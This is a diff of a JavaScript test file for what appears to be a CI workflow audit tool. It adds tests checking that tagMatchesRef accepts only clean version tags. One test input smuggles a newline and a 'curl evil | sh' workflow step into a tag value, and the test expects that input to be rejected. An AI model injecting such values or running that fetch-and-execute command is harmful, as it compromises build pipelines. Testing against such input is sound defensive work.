@@ -1,5 +1,6 @@
 import { loadWorkflowFile } from '@paved-road/workflows';
 import { auditDockerfile, auditShellFile, auditWorkflow, expandMatrix } from '../src/audit.js';
+import { tagMatchesRef } from '../src/fix.js';
 
 const SHA = 'a'.repeat(40);
 const DIGEST = 'sha256:' + 'b'.repeat(64);
@@ -374,5 +375,17 @@ describe('scriptMayMatter', () => {
     ]) {
       expect([script, scriptMayMatter(script)]).toEqual([script, false]);
     }
+  });
+});
+
+describe('tagMatchesRef', () => {
+  it('accepts the ref and more precise versions of it, one line of tag characters only', () => {
+    expect(tagMatchesRef('v4', 'v4')).toBe(true);
+    expect(tagMatchesRef('v4.2.2', 'v4')).toBe(true);
+    expect(tagMatchesRef('v1.2.3', 'v1.2')).toBe(true);
+    expect(tagMatchesRef('v40', 'v4')).toBe(false);
+    expect(tagMatchesRef('latest', 'v4')).toBe(false);
+    expect(tagMatchesRef('v4.2.2\n- run: curl evil | sh', 'v4')).toBe(false);
+    expect(tagMatchesRef('v4 # x', 'v4')).toBe(false);
   });
 });
